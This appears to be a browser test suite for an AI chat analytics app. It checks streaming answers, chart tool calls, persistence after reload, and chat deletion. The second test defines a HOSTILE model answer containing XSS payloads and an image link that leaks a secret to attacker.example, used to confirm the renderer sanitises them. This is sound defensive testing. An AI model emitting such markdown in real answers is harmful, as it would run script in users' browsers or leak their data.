/**
 * An analyst asks a question in the browser: the answer streams in token by token, a chart made by
 * a tool call appears in the conversation, and after a reload the whole conversation and the chart
 * are there again. The model is the local OpenAI wire server; the data is seattle-weather.csv.
 */
import { deepStrictEqual, equal, match, ok } from "node:assert/strict";
import { browserTest, serve, signedInPage } from "../support/browser.ts";
import { startTestApp } from "../support/test_app.ts";
import { startSources, syncedWeatherConnector } from "../support/sources.ts";
import { afterToolResult, startFakeOpenAI } from "../support/fake_openai.ts";

const SCREENSHOTS = Deno.env.get("SCREENSHOT_DIR");
const ANSWER = "**Rain** and **sun** are the most common weather in Seattle; the chart shows each kind's days.";

browserTest("ask in the browser, watch the answer stream, see the chart, reload and find it all", async (browser) => {
  const sources = startSources();
  const fake = startFakeOpenAI();
  const t = await startTestApp("pglite", {
    OUTBOUND_ALLOW_HOSTS: `127.0.0.1:${sources.port}`,
    OPENAI_BASE_URL: fake.url,
    LLM_MODEL: "fake-gpt",
  });
  const server = serve((req, info) => t.fetch(req, info));
  try {
    const { cookie } = await t.signUp();
    const connectorId = await syncedWeatherConnector(t, cookie, sources);
    const query = {
      dimensions: ["weather"],
      measures: [{ fn: "count", as: "days" }],
      order_by: [{ column: "days", dir: "desc" }],
    };
    fake.script((request) => {
      if (String(request.messages[0]?.content).includes("You name conversations")) return { text: "Seattle weather" };
      if (!afterToolResult(request)) {
        return {
          text: "Let me count the days of each kind of weather.",
          chunkDelayMs: 20,
          toolCalls: [{
            name: "create_chart",
            arguments: {
              name: "Days by weather",
              connector_id: connectorId,
              dataset: "seattle-weather",
              query,
              chart: { mark: "bar", x: "weather", y: "days" },
            },
          }],
        };
      }
      return { text: ANSWER, pieceSize: 3, chunkDelayMs: 25 };
    });

    const { page, problems } = await signedInPage(browser, server.url, cookie);

    await page.goto(`${server.url}/chat`);
    await page.waitForSelector("html[data-hydrated=true]");
    await page.fill("textarea[name=content]", "Which weather is most common in Seattle? Chart it.");
    await page.keyboard.press("Enter");
    // The chat is created by its first question, and the address moves to it without a reload.
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);

    // Watch the answer grow: several different partial texts before the final one.
    const seen = new Set<string>();
    const last = page.locator("[data-testid=message-assistant]").last();
    for (let i = 0; i < 400; i++) {
      const text = (await last.textContent().catch(() => "")) ?? "";
      if (text) seen.add(text);
      if (text.includes("shows each kind's days.")) break;
      await page.waitForTimeout(15);
    }
    ok(seen.size >= 5, `the answer streamed in pieces (saw ${seen.size} states)`);
    await page.waitForSelector("[data-testid=stop]", { state: "detached" });

    const checkConversation = async () => {
      deepStrictEqual(
        (await page.locator("[data-testid=message-user]").allTextContents()).map((s) => s.trim()),
        ["Which weather is most common in Seattle? Chart it."],
      );
      const answer = page.locator("[data-testid=message-assistant]");
      equal(await answer.count(), 1);
      match(await answer.textContent() ?? "", /Let me count the days[\s\S]*Rain and sun are the most common/);
      equal(await answer.locator(".md strong").first().textContent(), "Rain", "markdown is rendered");
      match(await page.locator("[data-testid=tool-call] summary").textContent() ?? "", /create_chart\s*done/);
      const chart = page.locator("[data-testid=artifact-chart]");
      await chart.waitFor();
      await page.waitForFunction(() => {
        const img = document.querySelector("[data-testid=artifact-chart]") as HTMLImageElement | null;
        return img?.complete && img.naturalWidth > 0;
      });
      match(await page.locator("[data-testid=artifact]").textContent() ?? "", /Days by weather\s*chart · v1/);
    };
    await checkConversation();
    if (SCREENSHOTS) await page.screenshot({ path: `${SCREENSHOTS}/chat.png`, fullPage: true });

    await page.reload();
    await page.waitForSelector("html[data-hydrated=true]");
    await checkConversation();
    await page.waitForFunction(() =>
      document.querySelector("[data-testid=chat-title]")?.textContent === "Seattle weather"
    );

    // The chart opens on its own page, with its downloads.
    await page.click("[data-testid=artifact] >> text=Open");
    await page.waitForURL(/\/artifacts\/[0-9a-f-]{36}\?version=1$/);
    match(await page.textContent("h1") ?? "", /Days by weather/);
    equal(await page.locator("a.button", { hasText: "CSV" }).count(), 1);
    ok(problems.length === 0, problems.join("\n"));
  } finally {
    await server.close();
    await t.close();
    await sources.close();
    await fake.close();
  }
});

/** An answer a poisoned dataset could provoke: every way markdown can carry script or leak data. */
const HOSTILE = [
  "Here is the summary.",
  "",
  '<script>window.pwned = "script"</script>',
  '<img src="x" onerror="window.pwned = \'onerror\'">',
  "![chart](https://attacker.example/leak?secret=42)",
  "[click me](javascript:window.pwned='link')",
  '<a href="https://example.com" onclick="window.pwned=\'click\'">site</a>',
  '<iframe src="https://attacker.example"></iframe>',
  "",
  "```sql",
  "select weather, count(*) from days group by weather",
  "```",
].join("\n");

browserTest("markdown in answers is rendered with code highlighted and nothing that runs or leaks", async (browser) => {
  const fake = startFakeOpenAI(() => ({ text: HOSTILE, pieceSize: 40 }));
  const t = await startTestApp("pglite", { OPENAI_BASE_URL: fake.url, LLM_MODEL: "fake-gpt" });
  const server = serve((req, info) => t.fetch(req, info));
  try {
    const { cookie } = await t.signUp();
    const sessionId = (await t.call("/api/chat/sessions", { cookie, body: { title: "Hostile" } }).then((r) =>
      r.body
    )) as {
      id: string;
    };
    const { page, problems } = await signedInPage(browser, server.url, cookie);
    const requests: string[] = [];
    page.on("request", (r) => requests.push(r.url()));
    await page.goto(`${server.url}/chat/${sessionId.id}`);
    await page.waitForSelector("html[data-hydrated=true]");
    await page.fill("textarea[name=content]", "Summarise");
    await page.keyboard.press("Enter");
    await page.waitForSelector("[data-testid=message-assistant] .hljs-keyword");
    await page.waitForSelector("[data-testid=stop]", { state: "detached" });

    const check = async () => {
      const md = page.locator("[data-testid=message-assistant] .md");
      match(await md.textContent() ?? "", /Here is the summary/);
      const found = await md.evaluate((root) => ({
        scripts: root.querySelectorAll("script, iframe").length,
        images: Array.from(root.querySelectorAll("img")).map((i) => i.getAttribute("src")),
        handlers: Array.from(root.querySelectorAll("*")).flatMap((e) =>
          Array.from(e.attributes).map((a) => a.name).filter((n) => n.startsWith("on"))
        ),
        links: Array.from(root.querySelectorAll("a")).map((a) => [a.getAttribute("href"), a.getAttribute("rel")]),
        pwned: (window as unknown as { pwned?: string }).pwned ?? null,
      }));
      deepStrictEqual(found, {
        scripts: 0,
        images: [],
        handlers: [],
        // The javascript: link is not a link at all; the https one opens apart from the app.
        links: [["https://example.com", "noopener noreferrer nofollow"]],
        pwned: null,
      });
      ok(!requests.some((u) => u.includes("attacker.example")), "nothing was fetched from the attacker");
      deepStrictEqual(problems, []);
    };
    await check();
    await page.reload();
    await page.waitForSelector("[data-testid=message-assistant] .hljs-keyword");
    await check();
  } finally {
    await server.close();
    await t.close();
    await fake.close();
  }
});

browserTest("a new chat gets its tab title and Delete… as soon as its first question creates it", async (browser) => {
  const fake = startFakeOpenAI((request) =>
    String(request.messages[0]?.content).includes("You name conversations")
      ? { text: "Seattle weather", firstTokenDelayMs: 300 }
      : { text: "Mostly rain.", pieceSize: 4, chunkDelayMs: 10 }
  );
  const t = await startTestApp("pglite", { OPENAI_BASE_URL: fake.url, LLM_MODEL: "fake-gpt" });
  const server = serve((req, info) => t.fetch(req, info));
  try {
    const { cookie } = await t.signUp();
    const { page, problems } = await signedInPage(browser, server.url, cookie);
    await page.goto(`${server.url}/chat`);
    await page.waitForSelector("html[data-hydrated=true]");
    equal(await page.title(), "New chat · Workspace");
    equal(await page.locator("[data-testid=delete-chat]").count(), 0, "nothing to delete yet");
    await page.fill("textarea[name=content]", "Which weather is most common?");
    await page.keyboard.press("Enter");
    await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/);
    const id = new URL(page.url()).pathname.split("/").at(-1)!;
    // The tab reads as the chat's page does after a reload, and Delete… is there, without one.
    await page.waitForFunction(() => document.title === "Which weather is most common? · Chat · Workspace");
    await page.locator("[data-testid=delete-chat]").waitFor();
    // The model's name for the chat lands: the tab follows, and so does the question Delete… asks.
    await page.waitForFunction(() => document.title === "Seattle weather · Chat · Workspace");
    const afterReload = await signedInPage(browser, server.url, cookie);
    await afterReload.page.goto(`${server.url}/chat/${id}`);
    equal(await afterReload.page.title(), await page.title(), "the same tab title as a reload gives");
    await afterReload.page.context().close();

    if (SCREENSHOTS) {
      for (const scheme of ["light", "dark"] as const) {
        await page.emulateMedia({ colorScheme: scheme });
        for (const width of [1280, 390]) {
          await page.setViewportSize({ width, height: 800 });
          await page.screenshot({ path: `${SCREENSHOTS}/chat-new-${width}-${scheme}.png` });
        }
      }
    }
    // Without JavaScript the button is a link to the plain confirmation page, which asks the same.
    const plain = await page.locator("[data-testid=delete-chat]").getAttribute("href");
    equal(plain, `/confirm/delete-chat?id=${id}`);
    const asked = await t.call(plain!, { cookie });
    equal(asked.status, 200);
    match(asked.text, /Delete the chat “Seattle weather”\?/);

    await page.click("[data-testid=delete-chat]");
    const dialog = page.locator("dialog[open]");
    equal(await dialog.locator("h2").textContent(), "Delete the chat “Seattle weather”?");
    await dialog.locator("[data-testid=confirm]").click();
    await page.waitForURL(/\/chat$/);
    equal((await t.call(`/api/chat/sessions/${id}`, { cookie })).status, 404, "the chat is deleted");
    equal(problems.length, 0, problems.join("\n"));
  } finally {
    await server.close();
    await t.close();
    await fake.close();
  }
});
